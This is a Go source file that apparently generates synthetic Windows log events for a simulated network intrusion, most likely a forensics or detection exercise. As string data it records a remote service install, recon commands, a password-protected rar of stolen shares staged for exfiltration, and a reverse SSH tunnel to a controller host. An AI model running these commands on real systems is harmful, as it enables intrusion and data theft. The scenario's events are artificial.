package example

import "time"

// fileServer is entered as svc_backup, whose password was guessed from its
// ticket: a service is copied over and started, files are gathered and packed.
func (w *world) fileServer(t time.Time) {
	u, from := w.service("svc_backup"), w.web.address
	for i, h := range []*host{w.dc, w.mail, w.ws, w.file} { // where does it work?
		when := t.Add(time.Duration(i-4) * 40 * time.Second)
		w.validated(when, u, stranger, 0)
		id := w.logonTo(h, when.Add(80*time.Millisecond), session{u, 3, from, stranger, "NTLM"}, true)
		w.logoff(h, when.Add(20*time.Second), u, id, 3)
	}
	w.validated(t, u, stranger, 0)
	id := w.logonTo(w.file, t.Add(100*time.Millisecond), session{u, 3, from, stranger, "NTLM"}, true)
	w.share(w.file, t.Add(300*time.Millisecond), u, id, from, "IPC$", "")
	w.share(w.file, t.Add(500*time.Millisecond), u, id, from, "ADMIN$", `\??\C:\Windows`)
	w.shareFile(w.file, t.Add(700*time.Millisecond), u, id, from, "ADMIN$", `\??\C:\Windows`, `kWpQzrTn.exe`, 0x120196)
	w.shareFile(w.file, t.Add(1500*time.Millisecond), u, id, from, "IPC$", "", "svcctl", 0x12019f)
	w.serviceInstalled(w.file, t.Add(1800*time.Millisecond), u, id, "KRQT", `%systemroot%\kWpQzrTn.exe`)
	w.serviceState(w.file, t.Add(2*time.Second), "KRQT", "running", "KRQT")

	manager := w.running(w.file, servicesExe, servicesExe, w.system, 0x3e7)
	service := w.start(w.file, t.Add(2*time.Second), manager, w.system, 0x3e7, `C:\Windows\kWpQzrTn.exe`, `C:\Windows\kWpQzrTn.exe`, `C:\Windows\system32\`)
	w.commands(w.file, t.Add(20*time.Second), service, w.system, 0x3e7, []command{
		{"quser", "quser"}, {"net", "net share"}, {"net", "net localgroup administrators"}, {"ipconfig", "ipconfig /displaydns"}, {"tasklist", "tasklist"},
	})
	w.gather(t.Add(6*time.Minute), u, id, from)
	w.pack(t.Add(21*time.Minute), service)
	w.logoff(w.file, t.Add(40*time.Minute), u, id, 3)
}

// gather reads what the intruder came for through the administrative share.
func (w *world) gather(t time.Time, u user, logon uint64, from string) {
	w.share(w.file, t, u, logon, from, "D$", `\??\D:\`)
	for _, target := range []string{
		`Shares\IT\passwords.xlsx`, `Shares\IT\network-plan.vsdx`, `Shares\Building\access-control-manual.pdf`, `Shares\Building\camera-logins.txt`,
		`Shares\Pilots\Rosters\2026.xlsx`, `Shares\Charts\approach-survey-2026.gdb`, `Shares\Defence\berth-reservations.docx`, `Shares\Defence\escort-schedule.docx`,
	} {
		t = t.Add(time.Second + w.jitter(30))
		w.shareFile(w.file, t, u, logon, from, "D$", `\??\D:\`, target, 0x120089)
	}
}

// pack is the archive the files leave in. These records are later removed from
// the file server's log; see [packing].
func (w *world) pack(t time.Time, service process) {
	const archive = perfLogs + `a.rar`
	shell := w.start(w.file, t, service, w.system, 0x3e7, cmdExe, `cmd.exe /c `+perfLogs+`r.exe a -hpQ8harbour -v200m `+archive+` D:\Shares\Defence D:\Shares\IT`, `C:\Windows\system32\`)
	w.start(w.file, t.Add(100*time.Millisecond), shell, w.system, 0x3e7, perfLogs+`r.exe`, packing+archive+` D:\Shares\Defence D:\Shares\IT`, `C:\Windows\system32\`)
	w.start(w.file, t.Add(4*time.Minute), service, w.system, 0x3e7, cmdExe, `cmd.exe /c copy `+perfLogs+`a.part1.rar \\WEB01\c$\Users\Public\Libraries\`, `C:\Windows\system32\`)
	kernel := w.running(w.web, "System", "", w.system, 0x3e7)
	w.fileCreated(w.web, t.Add(4*time.Minute+2*time.Second), kernel, publicFolder+`a.part1.rar`)
}

// packing begins the command line that packed the stolen files.
const packing = perfLogs + `r.exe a -hpQ8harbour -v200m `

// desktopThroughTunnel is a remote desktop on the file server that seems to
// come from the file server itself: the other end of a forwarded port.
func (w *world) desktopThroughTunnel(t time.Time) {
	u := w.service("svc_backup")
	manager := w.running(w.file, `C:\Windows\kWpQzrTn.exe`, `C:\Windows\kWpQzrTn.exe`, w.system, 0x3e7)
	w.start(w.file, t, manager, w.system, 0x3e7, perfLogs+`p.exe`, perfLogs+`p.exe -N -batch -R 3390:127.0.0.1:3389 -P 443 fwd@`+controller, `C:\Windows\system32\`)
	t = t.Add(2 * time.Minute)
	w.remoteDesktop(w.file, t, u, "127.0.0.1")
	id := w.logonTo(w.file, t.Add(time.Second), session{u, 10, "127.0.0.1", w.file.name, "Negotiate"}, true)
	w.logoff(w.file, t.Add(15*time.Minute), u, id, 10)
}

// desktopThroughProxy is a remote desktop on the administrator's workstation
// at night, through the web server's port proxy, with the password found in
// the web server's memory.
func (w *world) desktopThroughProxy(t time.Time) {
	u := w.person("r.patel")
	w.ticketGranting(t, u, w.ws.address, etypeAES256, "2")
	id := w.logonTo(w.ws, t.Add(time.Second), session{u, 10, w.web.address, w.ws.name, "Negotiate"}, true)
	w.remoteDesktop(w.ws, t.Add(time.Second), u, w.web.address)
	shell := w.running(w.ws, `C:\Windows\explorer.exe`, `C:\Windows\Explorer.EXE`, u, id)
	prompt := w.start(w.ws, t.Add(time.Minute), shell, u, id, cmdExe, `"C:\Windows\system32\cmd.exe"`, `C:\Users\r.patel\`)
	w.start(w.ws, t.Add(70*time.Second), prompt, u, id, `C:\Windows\System32\cmdkey.exe`, `cmdkey /list`, `C:\Users\r.patel\`)
	w.start(w.ws, t.Add(90*time.Second), prompt, u, id, `C:\Windows\System32\notepad.exe`, `notepad D:\Plans\exchange-admin.txt`, `C:\Users\r.patel\`)
	w.logoff(w.ws, t.Add(16*time.Minute), u, id, 10)
}
